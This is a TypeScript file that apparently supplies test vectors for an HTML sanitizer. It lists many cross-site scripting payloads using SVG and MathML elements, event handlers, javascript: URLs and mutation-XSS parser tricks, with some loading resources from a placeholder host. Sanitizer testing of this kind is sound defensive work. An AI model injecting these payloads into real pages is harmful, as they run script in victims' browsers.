import { texts } from '../../support/texts.ts'
import type { VectorClass } from './vector-class.ts'

export const foreign: readonly VectorClass[] = [
  {
    name: 'svg',
    vectors: texts(`
      <svg onload=alert(1)> | <svg/onload=alert(1)> | <svg><script>alert(1)</script></svg>
      <svg><script>alert&#40;1&#41;</script></svg> | <svg><script href="data:text/javascript,alert(1)"/></svg>
      <svg><script xlink:href=//x.test/x /></svg>
      <svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
      <svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
      <svg><animate onbegin=alert(1) attributeName=x dur=1s> | <svg><set onbegin=alert(1) attributeName=x>
      <svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x">
      <svg><image href=x onerror=alert(1)> | <svg><image href="//x.test/x.png"/></svg>
      <svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
      <svg><desc><img src=x onerror=alert(1)></desc></svg>
      <svg><title><img src=x onerror=alert(1)></title></svg>
      <svg><style>@import"//x.test/x.css"</style></svg>
      <svg><handler type=text/javascript>alert(1)</handler></svg>
      <svg><feImage href="//x.test/x.svg"/></svg> | <svg><discard onbegin=alert(1)>
      <svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>
      <p><svg><a href="javascript:alert(1)">x</a></svg></p>
    `),
  },
  {
    name: 'math',
    vectors: [
      '<math href="javascript:alert(1)">x</math>',
      '<math><mi href="javascript:alert(1)">x</mi></math>',
      '<math xlink:href="javascript:alert(1)">x</math>',
      '<math><maction actiontype="statusline#//x.test" xlink:href="javascript:alert(1)">x</maction></math>',
      '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
      '<math><mtext><script>alert(1)</script></mtext></math>',
      '<math><a xlink:href="javascript:alert(1)">x</a></math>',
      '<math><img src=x onerror=alert(1)></math>',
      '<math onclick=alert(1)>x</math>',
    ],
  },
  {
    name: 'mutation and namespace confusion',
    vectors: [
      ...texts(`
      <svg></p><style><a id="</style><img src=x onerror=alert(1)>">
      <svg></br><style><a title="</style><img src=x onerror=alert(1)>">
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
      <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
      <math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
      <math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">
      <svg><style><img src=x onerror=alert(1)></style></svg>
      <svg><desc><style><a id="</style><img src=x onerror=alert(1)>">
      <math><style><a id="</style><img src=x onerror=alert(1)>"></style></math>
      <svg><noscript><style><a title="</noscript><img src=x onerror=alert(1)>">
      <svg><textarea><a title="</textarea><img src=x onerror=alert(1)>">
      <svg><xmp><a title="</xmp><img src=x onerror=alert(1)>">
      <svg><iframe><a title="</iframe><img src=x onerror=alert(1)>">
      <svg><title><a id="</title><img src=x onerror=alert(1)>">
      <svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>
      <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
      <math><![CDATA[><img src=x onerror=alert(1)>]]></math>
      <svg><!--</svg><img title="--><img src=x onerror=alert(1)>">
      <svg><p></svg><b><img src=x onerror=alert(1)></b>
      <svg><font color=red><img src=x onerror=alert(1)></svg>
      <svg><b><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></b></svg>
      <svg><li><a title="</li></svg><img src=x onerror=alert(1)>">x</a></li></svg>
      <p><svg><p><math><p><img src=x onerror=alert(1)> | <a><svg><a><img src=x onerror=alert(1)></a></svg></a>
      <div><svg></div><img src=x onerror=alert(1)></svg>
      <b><svg></b><style><b title="</style><img src=x onerror=alert(1)>">
      <p>&lt;img src=x onerror=alert(1)&gt;</p> | <p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>
    `),
      '<b>`<img src=x onerror=alert(1)>`</b>',
    ],
  },
]
